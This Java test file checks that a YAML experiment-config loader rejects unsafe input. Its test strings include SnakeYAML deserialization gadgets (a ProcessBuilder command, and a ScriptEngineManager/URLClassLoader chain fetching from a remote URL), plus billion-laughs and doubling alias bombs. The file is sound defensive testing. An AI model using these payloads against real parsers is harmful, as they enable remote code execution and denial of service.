package org.igkit.runner.config;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import org.junit.jupiter.api.Assertions;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * Loading an experiment file executes nothing: YAML is only composed into nodes (SnakeYAML's
 * {@code compose}, never a constructor, no Jackson default typing), every tag other than YAML's
 * core ones is a located error, a plugin {@code type} is looked up in the registry only (a class
 * name is just an unknown id), alias bombs are refused before they expand, and relative paths
 * resolve against the YAML file's folder, not the working directory.
 */
class SafeYamlTest {

  private final ExperimentLoader loader = new ExperimentLoader(TestPlugins.registry());
  private final Path source = TestPlugins.resources("valid").resolve("safety.yaml");

  private static final String HEAD = """
      name: safety
      model:
        path: ../models/tiny.pt
        inputShape: [3, 32, 32]
      dataset: test-shapes
      """;

  private ConfigException rejected(String yaml) {
    ConfigException e = catchThrowableOfType(ConfigException.class, () -> loader.parse(yaml, source));
    assertThat(e).as("must be rejected with a ConfigException:%n%s", yaml).isNotNull();
    assertThat(e.errors()).allSatisfy(x -> assertThat(x.file()).isEqualTo(source.toString()));
    return e;
  }

  @ParameterizedTest
  @ValueSource(strings = {
      "methods: !!java.lang.ProcessBuilder [[touch, /tmp/igkit-pwned]]\n",
      "methods:\n  - name: IG\n    baselines: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x/\"]]]]\n",
      "methods:\n  - name: IG\n    baselines: !custom black\n",
      "methods:\n  - !!java.util.HashMap {name: IG, baselines: black}\n",
      "methods:\n  - name: IG\n    baselines: black\nseed: !!binary AAAA\n",
      "methods:\n  - name: !<tag:example.com,2024:evil> IG\n    baselines: black\n",
  })
  void aYamlTagIsALocatedErrorAndConstructsNothing(String tail) {
    ConfigException e = rejected(HEAD + tail);

    assertThat(e.errors()).anySatisfy(x -> {
      assertThat(x.line()).isGreaterThan(5);
      assertThat(x.column()).isPositive();
      assertThat(x.message()).contains("YAML tag").contains("is not allowed");
    });
    assertThat(Path.of("/tmp/igkit-pwned")).doesNotExist();
  }

  @Test
  void theTagErrorNamesTheTagAndItsPlace() {
    ConfigException e = rejected(HEAD + "methods: !!java.lang.ProcessBuilder [[id]]\n");

    assertThat(TestPlugins.render(e)).isEqualTo("safety.yaml:6:10 YAML tag '!!java.lang.ProcessBuilder' is not allowed: "
        + "igkit reads plain values only and builds objects from plugin ids (type: …), never from tags or class names; "
        + "remove the tag");
  }

  @Test
  void coreTagsWrittenOutAreStillPlainValues() {
    Experiment e = loader.parse(HEAD + "seed: !!int 7\nmethods:\n  - name: !!str IG\n    baselines: black\n", source);

    assertThat(e.seed()).isEqualTo(7);
    assertThat(e.methods().get(0).name()).isEqualTo("IG");
  }

  @ParameterizedTest
  @ValueSource(strings = {"java.lang.ProcessBuilder", "javax.script.ScriptEngineManager",
      "org.igkit.paths.straight.StraightPath", "org.igkit.aggregators.uniform.UniformAggregator"})
  void aClassNameAsPluginTypeIsAnUnknownIdNotAClass(String className) {
    ConfigException e = rejected(HEAD + "methods:\n  - name: IG\n    baselines: black\n    path: {type: " + className
        + "}\n    aggregator: " + className + "\n");

    assertThat(e.errors()).hasSize(2);
    assertThat(e.errors().get(0).yamlPath()).isEqualTo("methods[0].path.type");
    assertThat(e.errors().get(0).line()).isEqualTo(9);
    assertThat(e.errors().get(0).message()).contains("unknown").contains(className).contains("straight");
    assertThat(e.errors().get(1).yamlPath()).isEqualTo("methods[0].aggregator");
    assertThat(e.errors().get(1).message()).contains("unknown").contains("uniform");
  }

  @Test
  void aBillionLaughsAliasBombIsRefusedQuickly() {
    StringBuilder y = new StringBuilder(HEAD).append("methods:\n  - name: IG\n    baselines: black\n");
    y.append("x0: &a0 [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n");
    for (int i = 1; i <= 9; i++) {
      String p = "*a" + (i - 1);
      y.append("x").append(i).append(": &a").append(i).append(" [").append(String.join(", ", java.util.Collections.nCopies(9, p)))
          .append("]\n");
    }

    ConfigException e = Assertions.assertTimeoutPreemptively(Duration.ofSeconds(5), () -> rejected(y.toString()));

    assertThat(e.getMessage()).containsIgnoringCase("alias");
  }

  @Test
  void aNarrowAliasBombUnderSnakeYamlsAliasCountIsBoundedByExpandedSize() {
    // 48 aliases (SnakeYAML allows 50) doubling at every level: 2^25 nodes if expanded, which
    // YamlDocument.plain would have built (and the grid reader would have walked) before the fix
    StringBuilder y = new StringBuilder(HEAD).append("methods:\n  - name: IG\n    baselines: black\n");
    y.append("grid:\n  k0: &b0 [1, 2]\n");
    for (int i = 1; i <= 24; i++) {
      y.append("  k").append(i).append(": &b").append(i).append(" [*b").append(i - 1).append(", *b").append(i - 1).append("]\n");
    }

    ConfigException e = Assertions.assertTimeoutPreemptively(Duration.ofSeconds(5), () -> rejected(y.toString()));

    assertThat(e.getMessage()).contains("expands to more than").contains("aliases");
  }

  @Test
  void aRecursiveAliasIsALocatedError() {
    ConfigException e = Assertions.assertTimeoutPreemptively(Duration.ofSeconds(5),
        () -> rejected(HEAD + "methods: &m\n  - name: IG\n    baselines: black\n  - *m\n"));

    assertThat(e.getMessage()).contains("recursive");
  }

  @Test
  void aSmallAliasIsStillFine() {
    Experiment e = loader.parse(HEAD + "methods:\n  - name: A\n    baselines: &b [black, white]\n  - name: B\n    baselines: *b\n",
        source);

    assertThat(e.methods().get(1).baselines()).isEqualTo(e.methods().get(0).baselines());
  }

  @Test
  void relativePathsResolveAgainstTheYamlFileNotTheWorkingDirectory(@TempDir Path tmp) throws IOException {
    Path sub = Files.createDirectories(tmp.resolve("a/b"));
    Files.createDirectories(tmp.resolve("a/models"));
    Files.write(tmp.resolve("a/models/m.pt"), new byte[] {1});
    Path yaml = Files.writeString(sub.resolve("e.yaml"), """
        name: rel
        model: {path: ../models/m.pt, inputShape: [3, 32, 32]}
        dataset: {type: test-folder, path: imgs, masks: ../masks}
        methods: [{name: IG, baselines: black}]
        """);

    Experiment e = loader.load(yaml);

    assertThat(Path.of(e.model().path())).isEqualTo(tmp.resolve("a/models/m.pt").toAbsolutePath().normalize());
    TestPlugins.FolderSpec spec = (TestPlugins.FolderSpec) e.dataset().spec();
    assertThat(Path.of(spec.path())).isEqualTo(sub.resolve("imgs").toAbsolutePath().normalize());
    assertThat(Path.of(spec.masks())).isEqualTo(tmp.resolve("a/masks").toAbsolutePath().normalize());
  }

  @Test
  void aModelPathThatOnlyExistsRelativeToTheWorkingDirectoryIsNotFound(@TempDir Path tmp) throws IOException {
    // pom.xml exists in the working directory (the module folder) but not next to the YAML
    Path yaml = Files.writeString(tmp.resolve("e.yaml"), """
        name: rel
        model: {path: pom.xml, inputShape: [3, 32, 32]}
        dataset: test-shapes
        methods: [{name: IG, baselines: black}]
        """);

    ConfigException e = catchThrowableOfType(ConfigException.class, () -> loader.load(yaml));

    assertThat(e.errors()).singleElement().satisfies(x -> {
      assertThat(x.yamlPath()).isEqualTo("model.path");
      assertThat(x.message()).isEqualTo("file not found: " + tmp.resolve("pom.xml").toAbsolutePath().normalize());
    });
  }

  @ParameterizedTest
  @ValueSource(ints = {0x01, 0x07, 0x1B, 0x7F})
  void aControlByteIsALocatedErrorNamingTheCharacter(int control) {
    ConfigException e = rejected(HEAD + "methods:\n  - name: I" + (char) control + "G\n    baselines: black\n");

    assertThat(e.errors()).singleElement().satisfies(x -> {
      assertThat(x.line()).isEqualTo(7);
      assertThat(x.column()).isEqualTo(12);
      assertThat(x.message()).startsWith(String.format("the control character U+%04X is not allowed in YAML text", control));
    });
  }

  @Test
  void nestingBeyondTheDepthLimitIsALocatedError() {
    ConfigException e = rejected(HEAD + "seed: " + "[".repeat(200) + "]".repeat(200) + "\nmethods: [{name: IG, baselines: black}]\n");

    assertThat(e.errors()).singleElement().satisfies(x -> {
      assertThat(x.line()).isEqualTo(6);
      assertThat(x.column()).isEqualTo(7 + 63);
      assertThat(x.message()).startsWith("lists and mappings nest deeper than 64 levels here");
    });
  }
}
